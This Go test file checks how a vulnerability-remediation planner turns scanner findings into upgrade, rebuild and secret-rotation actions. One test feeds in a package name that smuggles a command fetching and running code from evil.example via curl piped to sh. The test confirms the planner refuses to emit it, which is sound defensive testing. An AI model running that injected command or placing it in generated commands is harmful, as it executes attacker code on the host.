package fix

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/sextant-dev/sextant"
)

var nginx = sextant.Artifact{
	Name:       "nginx:1.25",
	Repository: "nginx",
	Tags:       []string{"1.25"},
	Digest:     "sha256:aaaa",
	OSFamily:   "debian",
	OSVersion:  "12.4",
}

// vuln returns a scored vulnerability finding with its fingerprint as ID.
func vuln(art sextant.Artifact, eco, pkg, installed, cve string, score float64, fixed ...string) Item {
	f := &sextant.Finding{
		Kind:            sextant.KindVulnerability,
		VulnerabilityID: cve,
		Package:         sextant.Package{Ecosystem: eco, Name: pkg, Version: installed},
		FixedVersions:   fixed,
		Artifact:        art,
	}
	if len(fixed) > 0 {
		f.FixState = "fixed"
	}
	f.ID = sextant.Fingerprint(f)
	return Item{Finding: f, Score: sextant.Score{
		Value:    score,
		Priority: testPriority(score),
		Factors:  []sextant.Factor{{Name: "cvss", Value: score / 10, Weight: 1, Contribution: score}},
	}}
}

func testPriority(score float64) sextant.Priority {
	switch {
	case score >= 80:
		return sextant.P0
	case score >= 60:
		return sextant.P1
	case score >= 30:
		return sextant.P2
	}
	return sextant.P3
}

func withLayer(it Item, diffID string) Item {
	it.Finding.Package.LayerDiffID = diffID
	return it
}

func find(acts []sextant.Action, kind sextant.ActionKind, pkg string) *sextant.Action {
	for i := range acts {
		if acts[i].Kind == kind && acts[i].Package == pkg {
			return &acts[i]
		}
	}
	return nil
}

func hasNote(a *sextant.Action, substr string) bool {
	return slices.ContainsFunc(a.Notes, func(n string) bool { return strings.Contains(n, substr) })
}

func ids(items ...Item) []string {
	var out []string
	for _, it := range items {
		out = append(out, it.Finding.ID)
	}
	slices.Sort(out)
	return out
}

func TestPlanUpgradeGroupsFindings(t *testing.T) {
	a := vuln(nginx, "deb", "openssl", "3.0.11-1~deb12u1", "CVE-2023-5678", 40, "3.0.11-1~deb12u2")
	b := vuln(nginx, "deb", "openssl", "3.0.11-1~deb12u1", "CVE-2024-0727", 55, "3.0.13-1~deb12u1")
	c := vuln(nginx, "debian", "openssl", "3.0.11-1~deb12u1", "CVE-2023-6129", 20, "3.0.11-1~deb12u2")
	got := Plan([]Item{a, b, c}, Options{Priority: testPriority})
	want := []sextant.Action{{
		ID:               sextant.ActionID(sextant.ActionUpgradePackage, "sha256:aaaa", "deb/openssl"),
		Priority:         sextant.P2,
		Score:            55,
		Title:            "Upgrade openssl 3.0.11-1~deb12u1 → 3.0.13-1~deb12u1 in nginx:1.25 (fixes 3 CVEs)",
		Artifact:         "nginx:1.25",
		Kind:             sextant.ActionUpgradePackage,
		Package:          "openssl",
		Ecosystem:        "deb",
		InstalledVersion: "3.0.11-1~deb12u1",
		TargetVersion:    "3.0.13-1~deb12u1",
		Commands:         []string{"apt-get update && apt-get install -y --only-upgrade 'openssl=3.0.13-1~deb12u1'"},
		Vulnerabilities:  []string{"CVE-2023-5678", "CVE-2023-6129", "CVE-2024-0727"},
		FindingIDs:       ids(a, b, c),
		RiskRemoved:      115,
		Factors:          b.Score.Factors,
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Plan(%v) = %v, want %v\n(-want +got):\n%s", []Item{a, b, c}, got, want, diff)
	}
}

func TestPlanEpoch(t *testing.T) {
	// The scanner reports the fixed version without Debian's epoch.
	it := vuln(nginx, "deb", "git", "1:2.33.1-0.1", "CVE-2022-24765", 70, "2.33.1-0.1+deb10u1")
	got := Plan([]Item{it}, Options{})
	if len(got) != 1 {
		t.Fatalf("Plan(%v) = %d actions, want 1: %v", it, len(got), got)
	}
	a := got[0]
	if a.Kind != sextant.ActionUpgradePackage || a.TargetVersion != "1:2.33.1-0.1+deb10u1" {
		t.Errorf("Plan(%v) = %s target %q, want upgrade target %q", it, a.Kind, a.TargetVersion, "1:2.33.1-0.1+deb10u1")
	}
	wantCmd := []string{"apt-get update && apt-get install -y --only-upgrade git=1:2.33.1-0.1+deb10u1"}
	if diff := cmp.Diff(wantCmd, a.Commands); diff != "" {
		t.Errorf("Plan(%v) commands = %q, want %q", it, a.Commands, wantCmd)
	}
	if !hasNote(&a, "without the installed version's epoch") {
		t.Errorf("Plan(%v) notes = %q, want a note on the re-added epoch", it, a.Notes)
	}
}

func TestPlanTarget(t *testing.T) {
	app := sextant.Artifact{Name: "./app", Type: "filesystem"}
	tests := []struct {
		name  string
		items []Item
		want  string // target; "" for no upgrade action
	}{
		{"lowest fix above installed, in one string",
			[]Item{vuln(app, "pypi", "jinja2", "2.9.5", "CVE-1", 10, "2.9.10, 3.0.1")}, "2.9.10"},
		{"lowest fix above installed, separate entries, unsorted",
			[]Item{vuln(app, "pypi", "jinja2", "2.9.5", "CVE-1", 10, "3.0.1", "2.9.10")}, "2.9.10"},
		{"fix of an older line is skipped",
			[]Item{vuln(app, "pypi", "jinja2", "3.0.0", "CVE-1", 10, "2.9.10, 3.0.1")}, "3.0.1"},
		{"max over findings",
			[]Item{
				vuln(app, "pypi", "jinja2", "2.9.5", "CVE-1", 10, "2.9.10, 3.0.1"),
				vuln(app, "pypi", "jinja2", "2.9.5", "CVE-2", 10, "2.9.8"),
			}, "2.9.10"},
		{"target raised to the fix of its own line",
			[]Item{
				vuln(app, "npm", "semver", "5.7.1", "CVE-1", 10, "5.7.2, 6.3.1, 7.5.2"),
				vuln(app, "npm", "semver", "5.7.1", "CVE-2", 10, "6.0.0"),
			}, "6.3.1"},
		{"unlisted line between fixes is taken as vulnerable",
			[]Item{
				vuln(app, "maven", "org.apache.logging.log4j:log4j-core", "2.12.0", "CVE-1", 10, "2.12.2, 2.17.0"),
				vuln(app, "maven", "org.apache.logging.log4j:log4j-core", "2.12.0", "CVE-2", 10, "2.13.0"),
			}, "2.17.0"},
		{"go stdlib raised within the newer line",
			[]Item{
				vuln(app, "golang", "stdlib", "go1.21.5", "CVE-1", 10, "1.21.11, 1.22.4"),
				vuln(app, "golang", "stdlib", "go1.21.5", "CVE-2", 10, "1.22.1"),
			}, "1.22.4"},
		{"go stdlib stays on its line",
			[]Item{
				vuln(app, "golang", "stdlib", "1.21.5", "CVE-1", 10, "1.21.11, 1.22.4"),
				vuln(app, "golang", "stdlib", "1.21.5", "CVE-2", 10, "1.21.12, 1.22.5"),
			}, "1.21.12"},
		{"same major preferred",
			[]Item{vuln(app, "npm", "tar", "4.4.1", "CVE-1", 10, "6.1.1", "4.4.18")}, "4.4.18"},
		{"major jump when no fix on the line",
			[]Item{vuln(app, "npm", "tar", "4.4.1", "CVE-1", 10, "6.1.1")}, "6.1.1"},
		{"go stdlib",
			[]Item{
				vuln(app, "golang", "stdlib", "v1.21.5", "CVE-1", 10, "1.21.11, 1.22.4"),
				vuln(app, "golang", "stdlib", "v1.21.5", "CVE-2", 10, "1.21.8, 1.22.1"),
			}, "1.21.11"},
		{"go module gets v prefix",
			[]Item{vuln(app, "golang", "golang.org/x/net", "v0.14.0", "CVE-1", 10, "0.17.0")}, "v0.17.0"},
		{"fixed not newer is never a downgrade",
			[]Item{vuln(app, "npm", "tar", "6.2.0", "CVE-1", 10, "6.1.1")}, ""},
		{"invalid fixed version",
			[]Item{vuln(app, "npm", "tar", "6.0.0", "CVE-1", 10, "not a version")}, ""},
		{"invalid installed version",
			[]Item{vuln(app, "npm", "tar", "", "CVE-1", 10, "6.1.1")}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Plan(tt.items, Options{})
			var up *sextant.Action
			for i := range got {
				if got[i].Kind == sextant.ActionUpgradePackage {
					up = &got[i]
				}
			}
			switch {
			case tt.want == "" && up != nil:
				t.Errorf("Plan(%v) target = %q, want no upgrade", tt.items, up.TargetVersion)
			case tt.want == "" && find(got, sextant.ActionNoFix, tt.items[0].Finding.Package.Name) == nil:
				t.Errorf("Plan(%v) = %v, want a no-fix action", tt.items, got)
			case tt.want != "" && up == nil:
				t.Errorf("Plan(%v) = %v, want an upgrade to %q", tt.items, got, tt.want)
			case tt.want != "" && up.TargetVersion != tt.want:
				t.Errorf("Plan(%v) target = %q, want %q", tt.items, up.TargetVersion, tt.want)
			}
		})
	}
}

func TestPlanNotNewerNote(t *testing.T) {
	it := vuln(nginx, "deb", "zlib1g", "1:1.2.13.dfsg-1", "CVE-2023-45853", 50, "1:1.2.11.dfsg-2+deb11u2")
	got := Plan([]Item{it}, Options{})
	a := find(got, sextant.ActionNoFix, "zlib1g")
	if a == nil || !hasNote(a, "not newer than the installed") {
		t.Errorf("Plan(%v) = %v, want a no-fix action noting the fix is not newer", it, got)
	}
}

func TestPlanBaseImageSplit(t *testing.T) {
	art := nginx
	art.Layers = []string{"sha256:l1", "sha256:l2", "sha256:l3"}
	art.BaseLayers = 2
	art.BaseImage = "debian:12"
	items := []Item{
		withLayer(vuln(art, "deb", "libssl3", "3.0.11-1~deb12u1", "CVE-2024-0727", 50, "3.0.13-1~deb12u1"), "sha256:l1"),
		withLayer(vuln(art, "deb", "libc6", "2.36-9+deb12u3", "CVE-2023-6246", 80, "2.36-9+deb12u4"), "sha256:l1"),
		withLayer(vuln(art, "deb", "libc6", "2.36-9+deb12u3", "CVE-2023-6779", 60, "2.36-9+deb12u4"), "sha256:l2"),
		withLayer(vuln(art, "deb", "curl", "7.88.1-10+deb12u4", "CVE-2023-46218", 30, "7.88.1-10+deb12u5"), "sha256:l3"),
		withLayer(vuln(art, "deb", "libtiff6", "4.5.0-6", "CVE-2023-52355", 20), "sha256:l1"),
	}
	got := Plan(items, Options{})
	base := find(got, sextant.ActionRebuildBase, "")
	if base == nil {
		t.Fatalf("Plan(%v) = %v, want a base-image action", items, got)
	}
	if diff := cmp.Diff(ids(items[0], items[1], items[2]), base.FindingIDs); diff != "" {
		t.Errorf("Plan(%v) base finding IDs = %v, want %v", items, base.FindingIDs, ids(items[0], items[1], items[2]))
	}
	wantTitle := "Rebuild nginx:1.25 on a patched debian:12 (resolves 3 findings in 2 OS packages, 3 CVEs)"
	if base.Title != wantTitle {
		t.Errorf("Plan(%v) base title = %q, want %q", items, base.Title, wantTitle)
	}
	wantCmds := []string{"docker pull debian:12", "docker build --pull --no-cache -t nginx:1.25 ."}
	if diff := cmp.Diff(wantCmds, base.Commands); diff != "" {
		t.Errorf("Plan(%v) base commands = %q, want %q", items, base.Commands, wantCmds)
	}
	if base.ID != sextant.ActionID(sextant.ActionRebuildBase, "sha256:aaaa", "") || base.RiskRemoved != 190 || base.Score != 80 {
		t.Errorf("Plan(%v) base = %+v, want ID of (rebuild, sha256:aaaa, \"\"), risk 190, score 80", items, base)
	}
	if !hasNote(base, "apt-get install -y --only-upgrade libc6=2.36-9+deb12u4 'libssl3=3.0.13-1~deb12u1'") {
		t.Errorf("Plan(%v) base notes = %q, want the per-package fallback", items, base.Notes)
	}
	if find(got, sextant.ActionUpgradePackage, "libc6") != nil || find(got, sextant.ActionUpgradePackage, "libssl3") != nil {
		t.Errorf("Plan(%v) = %v, want no per-package action for base-layer packages", items, got)
	}
	if find(got, sextant.ActionUpgradePackage, "curl") == nil {
		t.Errorf("Plan(%v) = %v, want an upgrade for curl from the app layer", items, got)
	}
	if find(got, sextant.ActionNoFix, "libtiff6") == nil {
		t.Errorf("Plan(%v) = %v, want no-fix for libtiff6 even in the base layer", items, got)
	}

	// Below the share, every package keeps its own action.
	got = Plan(items, Options{BaseImageShare: 0.9})
	if a := find(got, sextant.ActionRebuildBase, ""); a != nil {
		t.Errorf("Plan(BaseImageShare 0.9) = %v, want no base-image action (3 of 4 in base)", a)
	}
	if find(got, sextant.ActionUpgradePackage, "libc6") == nil {
		t.Errorf("Plan(BaseImageShare 0.9) = %v, want an upgrade for libc6", got)
	}
}

func TestPlanBaseImageInferred(t *testing.T) {
	art := sextant.Artifact{Name: "app:1", OSFamily: "alpine", OSVersion: "3.19.0", Layers: []string{"sha256:l1", "sha256:l2"}}
	items := []Item{
		withLayer(vuln(art, "apk", "libcrypto3", "3.1.4-r2", "CVE-2023-6129", 50, "3.1.4-r3"), "sha256:l1"),
		withLayer(vuln(art, "apk", "busybox", "1.36.1-r15", "CVE-2023-42363", 40, "1.36.1-r16"), "sha256:l2"),
	}
	got := Plan(items, Options{})
	base := find(got, sextant.ActionRebuildBase, "")
	if base == nil || len(base.FindingIDs) != 1 || base.FindingIDs[0] != items[0].Finding.ID {
		t.Fatalf("Plan(%v) = %v, want a base-image action for the first layer's finding", items, got)
	}
	if !hasNote(base, "inferred") {
		t.Errorf("Plan(%v) base notes = %q, want the inference said", items, base.Notes)
	}
	if !strings.Contains(base.Title, "alpine 3.19.0") {
		t.Errorf("Plan(%v) base title = %q, want the OS named", items, base.Title)
	}
	if up := find(got, sextant.ActionUpgradePackage, "busybox"); up == nil || up.Commands[0] != "apk add --no-cache 'busybox>=1.36.1-r16'" {
		t.Errorf("Plan(%v) = %v, want an apk upgrade of busybox", items, got)
	}
}

func TestPlanNoFix(t *testing.T) {
	a := vuln(nginx, "deb", "libtiff6", "4.5.0-6", "CVE-2023-52355", 35)
	a.Finding.FixState = "will_not_fix"
	b := vuln(nginx, "deb", "libtiff6", "4.5.0-6", "CVE-2023-6277", 25)
	got := Plan([]Item{a, b}, Options{})
	if len(got) != 1 {
		t.Fatalf("Plan(%v) = %v, want one action", []Item{a, b}, got)
	}
	act := got[0]
	want := sextant.Action{
		ID:               sextant.ActionID(sextant.ActionNoFix, "sha256:aaaa", "deb/libtiff6"),
		Priority:         sextant.P2,
		Score:            35,
		Title:            "No fix yet for libtiff6 4.5.0-6 in nginx:1.25 (2 CVEs): mitigate or record an exception",
		Artifact:         "nginx:1.25",
		Kind:             sextant.ActionNoFix,
		Package:          "libtiff6",
		Ecosystem:        "deb",
		InstalledVersion: "4.5.0-6",
		Commands:         []string{},
		Vulnerabilities:  []string{"CVE-2023-52355", "CVE-2023-6277"},
		FindingIDs:       ids(a, b),
		RiskRemoved:      60,
		Factors:          a.Score.Factors,
	}
	if diff := cmp.Diff(want, act, cmp.FilterPath(func(p cmp.Path) bool { return p.String() == "Notes" }, cmp.Ignore())); diff != "" {
		t.Errorf("Plan(%v) = %v, want %v\n(-want +got):\n%s", []Item{a, b}, act, want, diff)
	}
	for _, n := range []string{`reported fix state: "will_not_fix" (CVE-2023-52355)`, `reported fix state: "not-fixed" (CVE-2023-6277)`, "Exception candidate", "apt-get purge -y libtiff6", "Restrict exposure", "Compensating controls"} {
		if !hasNote(&act, n) {
			t.Errorf("Plan(%v) notes = %q, want one containing %q", []Item{a, b}, act.Notes, n)
		}
	}
}

func TestPlanInjectedPackageName(t *testing.T) {
	it := vuln(nginx, "deb", "openssl$(curl -s evil.example|sh)", "3.0.11-1", "CVE-2024-0727", 50, "3.0.13-1")
	got := Plan([]Item{it}, Options{})
	if len(got) != 1 {
		t.Fatalf("Plan(%v) = %v, want one action", it, got)
	}
	a := got[0]
	if len(a.Commands) != 0 {
		t.Errorf("Plan(%v) commands = %q, want none for an illegal package name", it, a.Commands)
	}
	if !hasNote(&a, "no command was generated") {
		t.Errorf("Plan(%v) notes = %q, want the rejection explained", it, a.Notes)
	}
	for _, s := range a.Commands {
		if strings.Contains(s, "$(") {
			t.Errorf("Plan(%v) command %q carries shell syntax from the report", it, s)
		}
	}
}

func TestPlanConfigAndSecrets(t *testing.T) {
	cfg := func(loc string, score float64) Item {
		f := &sextant.Finding{Kind: sextant.KindMisconfiguration, VulnerabilityID: "DS002", Title: "Image user should not be 'root'", Location: loc, Artifact: nginx}
		f.ID = sextant.Fingerprint(f)
		return Item{Finding: f, Score: sextant.Score{Value: score, Priority: testPriority(score)}}
	}
	sec := func(loc string) Item {
		f := &sextant.Finding{Kind: sextant.KindSecret, VulnerabilityID: "aws-access-key-id", Title: "AWS key AKIAIOSFODNN7EXAMPLE", Description: "match: AKIAIOSFODNN7EXAMPLE", Location: loc, Artifact: nginx}
		f.ID = sextant.Fingerprint(f)
		return Item{Finding: f, Score: sextant.Score{Value: 90, Priority: sextant.P0}}
	}
	items := []Item{cfg("Dockerfile:1", 30), cfg("Dockerfile:9", 35), sec("app/.env:3"), sec("app/config.yml:7")}
	got := Plan(items, Options{})
	var cfgs, secrets []sextant.Action
	for _, a := range got {
		switch a.Kind {
		case sextant.ActionFixConfig:
			cfgs = append(cfgs, a)
		case sextant.ActionRemoveSecret:
			secrets = append(secrets, a)
		}
	}
	if len(cfgs) != 1 || len(secrets) != 2 {
		t.Fatalf("Plan(%v) = %d config and %d secret actions, want 1 and 2", items, len(cfgs), len(secrets))
	}
	if want := "Fix DS002 (Image user should not be 'root') in nginx:1.25 (2 locations)"; cfgs[0].Title != want {
		t.Errorf("Plan(%v) config title = %q, want %q", items, cfgs[0].Title, want)
	}
	if !hasNote(&cfgs[0], "Locations: Dockerfile:1, Dockerfile:9.") {
		t.Errorf("Plan(%v) config notes = %q, want both locations", items, cfgs[0].Notes)
	}
	for _, s := range secrets {
		text := s.Title + strings.Join(s.Notes, " ") + strings.Join(s.Commands, " ")
		if strings.Contains(text, "AKIA") {
			t.Errorf("Plan(%v) secret action %q echoes the secret value", items, text)
		}
		if !strings.HasPrefix(s.Notes[0], "1. Rotate first") {
			t.Errorf("Plan(%v) secret notes = %q, want rotation first", items, s.Notes)
		}
	}
	if secrets[0].ID == secrets[1].ID {
		t.Errorf("Plan(%v) gives two secret locations the same ID %s", items, secrets[0].ID)
	}
}

func TestPlanRanking(t *testing.T) {
	app := sextant.Artifact{Name: "./app"}
	items := []Item{
		vuln(app, "npm", "a", "1.0.0", "CVE-1", 50, "1.0.1"),
		vuln(app, "npm", "b", "1.0.0", "CVE-2", 90, "1.0.1"),
		vuln(app, "npm", "c", "1.0.0", "CVE-3", 50, "1.0.1"),
		vuln(app, "npm", "c", "1.0.0", "CVE-4", 10, "1.0.1"),
		vuln(app, "npm", "d", "1.0.0", "CVE-5", 50, "1.0.1"),
		vuln(app, "npm", "e", "1.0.0", "CVE-6", 5, "1.0.1"),
	}
	got := Plan(items, Options{})
	var order []string
	for _, a := range got {
		order = append(order, a.Package)
	}
	// b has the top score; c ties a and d on score but removes more risk;
	// a and d tie on both and are ordered by ID.
	ad := []string{"a", "d"}
	if sextant.ActionID(sextant.ActionUpgradePackage, "./app", "npm/d") < sextant.ActionID(sextant.ActionUpgradePackage, "./app", "npm/a") {
		ad = []string{"d", "a"}
	}
	want := append(append([]string{"b", "c"}, ad...), "e")
	if diff := cmp.Diff(want, order); diff != "" {
		t.Errorf("Plan(%v) order = %v, want %v", items, order, want)
	}
}

func TestPlanPriority(t *testing.T) {
	it := vuln(nginx, "deb", "curl", "7.88.1-10+deb12u4", "CVE-2023-46218", 65, "7.88.1-10+deb12u5")
	if got := Plan([]Item{it}, Options{})[0].Priority; got != sextant.P1 {
		t.Errorf("Plan(%v) priority = %v, want the finding's %v", it, got, sextant.P1)
	}
	always := func(float64) sextant.Priority { return sextant.P3 }
	if got := Plan([]Item{it}, Options{Priority: always})[0].Priority; got != sextant.P3 {
		t.Errorf("Plan(%v, Priority: P3) priority = %v, want %v", it, got, sextant.P3)
	}
}

func TestPlanSourcePackage(t *testing.T) {
	a := vuln(nginx, "deb", "libssl3", "3.0.11-1~deb12u1", "CVE-2024-0727", 50, "3.0.13-1~deb12u1")
	b := vuln(nginx, "deb", "openssl", "3.0.11-1~deb12u1", "CVE-2024-0727", 50, "3.0.13-1~deb12u1")
	a.Finding.Package.SourceName = "openssl"
	b.Finding.Package.SourceName = "openssl"
	got := Plan([]Item{a, b}, Options{})
	for _, pkg := range []string{"libssl3", "openssl"} {
		act := find(got, sextant.ActionUpgradePackage, pkg)
		if act == nil || !hasNote(act, "libssl3, openssl are built from the source package openssl") {
			t.Errorf("Plan(%v) %s = %v, want a note linking the binaries of source openssl", []Item{a, b}, pkg, act)
		}
	}
}

// TestPlanStable checks that IDs and the whole plan do not depend on input
// order or on the run.
func TestPlanStable(t *testing.T) {
	items := syntheticItems(3000)
	first := Plan(items, Options{Priority: testPriority})
	shuffled := slices.Clone(items)
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
	second := Plan(shuffled, Options{Priority: testPriority})
	if diff := cmp.Diff(first, second); diff != "" {
		t.Errorf("Plan(shuffled) differs from Plan(items) (-first +second):\n%s", diff)
	}
	seen := map[string]bool{}
	for _, a := range first {
		if seen[a.ID] {
			t.Errorf("Plan(items) repeats action ID %s", a.ID)
		}
		seen[a.ID] = true
	}
	if len(first) < 100 {
		t.Errorf("Plan(items) = %d actions, want a realistic plan of at least 100", len(first))
	}
	// Every finding is in exactly one action, or is a runtime event.
	covered := 0
	for _, a := range first {
		covered += len(a.FindingIDs)
	}
	if covered != len(items) {
		t.Errorf("Plan(items) covers %d findings, want %d", covered, len(items))
	}
}

// TestPlanNeverDowngrades checks the invariant on the synthetic corpus: every
// target is newer than every installed version of its findings and at least
// the least listed fix newer than it.
func TestPlanNeverDowngrades(t *testing.T) {
	items := syntheticItems(5000)
	byID := map[string]*sextant.Finding{}
	for _, it := range items {
		byID[it.Finding.ID] = it.Finding
	}
	vs := newVersions()
	for _, a := range Plan(items, Options{}) {
		if a.Kind != sextant.ActionUpgradePackage {
			continue
		}
		for _, id := range a.FindingIDs {
			f := byID[id]
			r := vs.resolve(a.Ecosystem, f)
			if c, ok := vs.compare(a.Ecosystem, a.TargetVersion, r.installed); !ok || c <= 0 {
				t.Errorf("Plan: action %q target %s is not newer than installed %s", a.Title, a.TargetVersion, r.installed)
			}
			if c, ok := vs.compare(a.Ecosystem, a.TargetVersion, r.cand); !ok || c < 0 {
				t.Errorf("Plan: action %q target %s is below the fix %s of %s", a.Title, a.TargetVersion, r.cand, f.VulnerabilityID)
			}
		}
	}
}

// syntheticItems returns n findings over several artifacts, ecosystems and
// layers, deterministic for a given n.
func syntheticItems(n int) []Item {
	rng := rand.New(rand.NewPCG(42, uint64(n)))
	items := make([]Item, 0, n)
	arts := make([]sextant.Artifact, 0, 64)
	for i := range max(1, n/5000) {
		arts = append(arts, sextant.Artifact{
			Name:       fmt.Sprintf("registry.example/app-%d:1.%d", i, i%7),
			Digest:     fmt.Sprintf("sha256:%064x", i),
			OSFamily:   "debian",
			OSVersion:  "12.4",
			Layers:     []string{"sha256:base0", "sha256:base1", fmt.Sprintf("sha256:app%d", i)},
			BaseLayers: 2,
		})
	}
	for i := range n {
		art := arts[rng.IntN(len(arts))]
		score := float64(rng.IntN(1000)) / 10
		cve := fmt.Sprintf("CVE-2024-%d", 10000+i)
		var it Item
		switch k := rng.IntN(20); {
		case k < 10:
			p := rng.IntN(300)
			installed := fmt.Sprintf("%d.%d.%d-1+deb12u%d", p%5+1, p%7, p%3, p%4)
			fixed := fmt.Sprintf("%d.%d.%d-1+deb12u%d", p%5+1, p%7, p%3, p%4+1+rng.IntN(3))
			if k == 0 {
				installed = "1:" + installed
			}
			it = vuln(art, "deb", fmt.Sprintf("lib%d", p), installed, cve, score, fixed)
			layer := art.Layers[2]
			if rng.IntN(10) < 8 {
				layer = art.Layers[rng.IntN(2)]
			}
			it = withLayer(it, layer)
		case k < 15:
			p := rng.IntN(500)
			it = vuln(art, "npm", fmt.Sprintf("pkg-%d", p), fmt.Sprintf("%d.%d.0", p%4+1, p%9), cve, score,
				fmt.Sprintf("%d.%d.%d, %d.0.1", p%4+1, p%9, 1+rng.IntN(5), p%4+2))
		case k < 17:
			p := rng.IntN(100)
			it = vuln(art, "golang", fmt.Sprintf("github.com/x/mod%d", p), fmt.Sprintf("v0.%d.0", p), cve, score, fmt.Sprintf("0.%d.%d", p, 1+rng.IntN(3)))
		case k < 18:
			it = vuln(art, "deb", fmt.Sprintf("old%d", rng.IntN(50)), "1.0-1", cve, score)
			it.Finding.FixState = "will_not_fix"
		case k < 19:
			f := &sextant.Finding{Kind: sextant.KindMisconfiguration, VulnerabilityID: fmt.Sprintf("DS%03d", rng.IntN(30)), Location: fmt.Sprintf("Dockerfile:%d", i), Artifact: art}
			f.ID = sextant.Fingerprint(f)
			it = Item{Finding: f, Score: sextant.Score{Value: score, Priority: testPriority(score)}}
		default:
			f := &sextant.Finding{Kind: sextant.KindSecret, VulnerabilityID: "generic-api-key", Location: fmt.Sprintf("app/.env:%d", i), Artifact: art}
			f.ID = sextant.Fingerprint(f)
			it = Item{Finding: f, Score: sextant.Score{Value: score, Priority: testPriority(score)}}
		}
		items = append(items, it)
	}
	return items
}

func BenchmarkPlan(b *testing.B) {
	items := syntheticItems(1_000_000)
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		if acts := Plan(items, Options{}); len(acts) == 0 {
			b.Fatal("Plan returned no actions")
		}
	}
}
